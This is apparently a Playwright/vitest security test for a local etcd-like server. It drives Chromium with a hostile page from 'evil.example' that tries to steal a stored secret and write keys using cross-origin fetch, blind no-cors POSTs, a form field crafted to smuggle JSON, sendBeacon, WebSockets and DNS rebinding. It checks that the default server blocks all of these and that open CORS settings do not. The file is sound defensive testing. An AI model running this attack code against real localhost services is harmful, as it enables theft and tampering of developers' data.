/**
 * A hostile page in a real Chromium against a server on a loopback address: from another site, from a frame without
 * an origin, and under a name that was made to point here. The same attacks on a server that was opened to them
 * succeed, so they are attacks.
 */
import http from "node:http";
import type { AddressInfo } from "node:net";
import { createClient } from "@connectrpc/connect";
import { createGrpcTransport } from "@connectrpc/connect-node";
import { type Browser, chromium, type Page } from "playwright";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { KV } from "../../../src/gen/etcdserverpb/kv_pb.ts";
import { createServer, type EtcdliteServer, type ServerOptions } from "../../../src/platform/node/index.ts";
import { chromiumOptions } from "../support/chromium.ts";
import { describeBrowser } from "../support/index.ts";

const SECRET = "the developer's secret";
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const KEY = base64("k");

interface Target {
  readonly server: EtcdliteServer;
  readonly port: number;
  /** 2 as long as nobody but the test has written. */
  revision(): Promise<number>;
}

async function startTarget(options: ServerOptions = {}): Promise<Target> {
  const server = await createServer(options);
  onTestFinished(() => server.close());
  const kv = createClient(KV, createGrpcTransport({ baseUrl: server.url }));
  await kv.put({ key: Buffer.from("k"), value: Buffer.from(SECRET) });
  const revision = async (): Promise<number> => Number((await kv.range({ key: Buffer.from("k") })).header?.revision);
  return { server, port: Number(new URL(server.url).port), revision };
}

/** Runs in the page: everything it can do to read and to write. Returns what was read, and what went through. */
async function attack({ base, key }: { base: string; key: string }): Promise<{ read: string; through: string[] }> {
  const through: string[] = [];
  let read = "";
  const put = JSON.stringify({ key, value: "aGFja2Vk" });
  const range = JSON.stringify({ key });
  const ask = async (name: string, path: string, init: RequestInit): Promise<void> => {
    try {
      const response = await fetch(`${base}${path}`, init);
      read += await response.text();
      if (response.ok) through.push(name);
    } catch {
      // Refused by the browser.
    }
  };
  const post = (type: string, body: string, more: RequestInit = {}): RequestInit => ({
    method: "POST",
    headers: { "content-type": type },
    body,
    ...more,
  });
  for (const host of ["/v3/kv/range", "/etcdserverpb.KV/Range"]) {
    await ask(`json ${host}`, host, post("application/json", range));
    await ask(`text ${host}`, host, post("text/plain", range));
  }
  await ask("blind put", "/v3/kv/put", post("text/plain", put, { mode: "no-cors", credentials: "include" }));
  await ask("blind Put", "/etcdserverpb.KV/Put", post("text/plain", put, { mode: "no-cors" }));
  await ask("untyped put", "/v3/kv/put", { method: "POST", mode: "no-cors", body: new Blob([put]) });
  await ask("json put", "/v3/kv/put", post("application/json", put));
  const message = encodeURIComponent(range);
  await ask("get", `/etcdserverpb.KV/Range?connect=v1&encoding=json&message=${message}`, {});
  for (const path of ["/metrics", "/version", "/health", "/"]) await ask(`get ${path}`, path, {});
  navigator.sendBeacon(`${base}/v3/kv/put`, put);
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action: `${base}/v3/kv/put`, enctype: "text/plain", target: "sink" });
  const field = document.createElement("input");
  Object.assign(field, { name: `${put.slice(0, -1)},"x":"`, value: '"}' });
  form.append(field);
  const sink = document.createElement("iframe");
  sink.name = "sink";
  document.body.append(sink, form);
  form.submit();
  await new Promise((resolve) => sink.addEventListener("load", resolve));
  for (const path of ["/v3/watch", "/v3/kv/put"]) {
    await new Promise<void>((resolve) => {
      const socket = new WebSocket(`${base.replace("http", "ws")}${path}`);
      socket.onopen = () => {
        through.push(`socket ${path}`);
        socket.send(path.endsWith("put") ? put : JSON.stringify({ create_request: { key, start_revision: "1" } }));
      };
      socket.onmessage = ({ data }) => {
        read += data;
        resolve();
      };
      socket.onclose = () => resolve();
    });
  }
  return { read, through };
}

async function startSite(): Promise<http.Server> {
  const site = http.createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end("<!doctype html><title>kittens</title><body>kittens</body>");
  });
  await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
  return site;
}

async function stopSite(site: http.Server): Promise<void> {
  site.closeAllConnections();
  await new Promise((resolve) => site.close(resolve));
}

function portOf(site: http.Server): number {
  return (site.address() as AddressInfo).port;
}

describeBrowser("a hostile page", () => {
  let chromiumOfOurs: Browser;
  let site: http.Server;
  beforeAll(async () => {
    // What a name is made to point at is all that matters of DNS rebinding.
    chromiumOfOurs = await chromium.launch(chromiumOptions(["--host-resolver-rules=MAP *.example 127.0.0.1"]));
    site = await startSite();
  });
  afterAll(async () => {
    await chromiumOfOurs.close();
    await stopSite(site);
  });

  async function visit(url: string): Promise<Page> {
    const context = await chromiumOfOurs.newContext();
    onTestFinished(() => context.close());
    const page = await context.newPage();
    page.setDefaultTimeout(15_000);
    await page.goto(url);
    return page;
  }

  /** A page that came from its author's server, and whose name now leads to ours. */
  async function rebound(options: ServerOptions): Promise<Target & { page: Page; base: string }> {
    const author = await startSite();
    const port = portOf(author);
    const base = `http://evil.example:${port}`;
    const page = await visit(`${base}/`);
    await stopSite(author);
    return { ...(await startTarget({ ...options, listenClientUrls: [`http://127.0.0.1:${port}`] })), page, base };
  }

  test.each(["127.0.0.1", "localhost"])("of another site reads nothing from %s, and writes nothing", async (host) => {
    const { port, revision } = await startTarget();
    const page = await visit(`http://evil.example:${portOf(site)}/`);
    const { read, through } = await page.evaluate(attack, { base: `http://${host}:${port}`, key: KEY });
    expect({ read, through }).toEqual({ read: "", through: [] });
    expect(await revision()).toBe(2);
  });

  test("in a frame without an origin neither", async () => {
    const { port, revision } = await startTarget();
    // Its place is one that may call: a page of this machine that shows what a stranger wrote.
    const page = await visit(`http://localhost:${portOf(site)}/`);
    await page.evaluate(() => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts allow-forms");
      frame.srcdoc = "<body></body>";
      document.body.append(frame);
    });
    await expect.poll(() => page.frames().length).toBe(2);
    const frame = page.frames()[1];
    const got = await frame?.evaluate(attack, { base: `http://127.0.0.1:${port}`, key: KEY });
    expect(got).toEqual({ read: "", through: [] });
    expect(await revision()).toBe(2);
  });

  test("whose name was made to point here is told what flag would let it, and nothing else", async () => {
    const { page, base, revision } = await rebound({});
    const { read, through } = await page.evaluate(attack, { base, key: KEY });
    expect(through).toEqual([]);
    expect(read).toContain('etcdlite --host-whitelist "evil.example"');
    expect(read).not.toContain(base64(SECRET));
    expect(await revision()).toBe(2);
  });

  test("succeeds where the server was opened to it: by --cors, by --host-whitelist", async () => {
    const opened = await startTarget({ cors: ["*"] });
    const page = await visit(`http://evil.example:${portOf(site)}/`);
    const cross = await page.evaluate(attack, { base: `http://127.0.0.1:${opened.port}`, key: KEY });
    expect(cross.through).toEqual(expect.arrayContaining(["json /v3/kv/range", "socket /v3/watch", "json put"]));
    expect(cross.read).toContain(base64(SECRET));
    // By fetch, blindly and not, untyped, by beacon, by form, by WebSocket.
    expect(await opened.revision()).toBe(8);
    const rebindable = await rebound({ hostWhitelist: ["*"] });
    const { read } = await rebindable.page.evaluate(attack, { base: rebindable.base, key: KEY });
    expect(read).toContain(base64(SECRET));
    expect(await rebindable.revision()).toBeGreaterThan(2);
  });

  test("pages that are named may call, and pages of this machine by default", async () => {
    const named = await startTarget({ cors: [`http://evil.example:${portOf(site)}`] });
    const page = await visit(`http://evil.example:${portOf(site)}/`);
    const fromNamed = await page.evaluate(attack, { base: `http://127.0.0.1:${named.port}`, key: KEY });
    expect(fromNamed.read).toContain(base64(SECRET));
    const local = await startTarget();
    const fromLocal = await (await visit(`http://localhost:${portOf(site)}/`)).evaluate(attack, {
      ...{ base: `http://127.0.0.1:${local.port}`, key: KEY },
    });
    expect(fromLocal.read).toContain(base64(SECRET));
    // A list is all there is, then.
    const fromUnnamed = await (await visit(`http://localhost:${portOf(site)}/`)).evaluate(attack, {
      ...{ base: `http://127.0.0.1:${named.port}`, key: KEY },
    });
    expect(fromUnnamed).toEqual({ read: "", through: [] });
  });
});
